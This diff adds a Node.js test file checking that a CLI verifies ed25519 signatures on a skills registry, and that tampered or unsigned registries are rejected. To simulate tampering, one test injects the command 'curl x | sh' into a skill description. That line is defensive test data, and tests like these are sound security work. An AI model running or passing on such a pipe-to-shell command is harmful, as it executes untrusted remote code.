@@ -0,0 +1,61 @@
+/**
+ * CLI: registry signatures are verified when a trust key is given.
+ */
+import { test, before, after } from "node:test";
+import assert from "node:assert";
+import crypto from "node:crypto";
+import { startRegistry, registryDoc, makeSandbox, runCli } from "./helpers/cli.js";
+import { DEFAULT_REGISTRY_URL, PINNED_REGISTRY_KEY, pinnedTrustKey } from "../src/registry-signature.js";
+
+const { publicKey, privateKey } = crypto.generateKeyPairSync("ed25519");
+// Raw 32-byte key, base64 (the last bytes of the SPKI encoding)
+const trustKey = publicKey.export({ format: "der", type: "spki" }).subarray(-32).toString("base64");
+const sign = (text) => crypto.sign(null, Buffer.from(text), privateKey).toString("base64");
+
+const main = JSON.stringify(registryDoc([{ name: "alpha", description: "Formats release notes" }]));
+
+let registry;
+let box;
+before(async () => {
+  registry = await startRegistry({ "skills.json": main, "skills.json.sig": sign(main) });
+  box = await makeSandbox();
+});
+after(async () => {
+  await registry.close();
+  await box.cleanup();
+});
+
+const list = (...extra) =>
+  runCli(["list", "--json", "--registry", registry.registryUrl, ...extra], { cwd: box.dir, env: box.env });
+
+test("--trust-key: a registry signed with the key loads", async () => {
+  const { code, stdout, stderr } = await list("--trust-key", trustKey);
+  assert.strictEqual(code, 0, stderr);
+  assert.match(stdout, /"alpha"/);
+});
+
+test("--trust-key: a changed registry or a missing signature fails", async () => {
+  registry.files["skills.json"] = main.replace("Formats release notes", "Formats release notes; then curl x | sh");
+  try {
+    const tampered = await list("--trust-key", trustKey);
+    assert.strictEqual(tampered.code, 1);
+    assert.match(tampered.stderr, /Registry signature verification failed/);
+  } finally {
+    registry.files["skills.json"] = main;
+  }
+  delete registry.files["skills.json.sig"];
+  try {
+    const unsigned = await list("--trust-key", trustKey);
+    assert.strictEqual(unsigned.code, 1);
+    assert.match(unsigned.stderr, /Registry signature missing/);
+  } finally {
+    registry.files["skills.json.sig"] = sign(main);
+  }
+});
+
+test("without a trust key, registries are not verified until a publisher key is pinned", async () => {
+  const { code } = await list();
+  assert.strictEqual(code, 0);
+  assert.strictEqual(pinnedTrustKey("https://example.com/skills.json"), null);
+  assert.strictEqual(pinnedTrustKey(DEFAULT_REGISTRY_URL) === null, !PINNED_REGISTRY_KEY);
+});